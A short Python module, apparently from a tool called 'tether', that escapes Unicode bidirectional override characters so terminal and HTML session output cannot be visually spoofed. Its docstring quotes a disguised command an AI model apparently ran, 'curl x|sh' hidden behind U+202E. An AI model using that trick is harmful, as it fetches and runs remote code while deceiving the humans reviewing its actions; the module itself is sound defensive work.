"""Characters that change how the text after them is shown, and the escape written in their
place: the terminal (``tether.cli.terminal_text``) and the exported HTML page
(``tether.session.html_page``) both show them escaped, the same way."""

from __future__ import annotations

import re

BIDI = "\u202a-\u202e\u2066-\u2069"
"""The bidirectional overrides and isolates, as a regular expression's character class range:
U+202E shows the rest of a line reversed, so a command the model ran
(``echo "\\u202e";curl x|sh #"``) read as an echo of garbage."""


def escaped(match: re.Match[str]) -> str:
    """The character ``match`` found as a ``\\x1b``- or ``\\u202e``-style escape."""
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
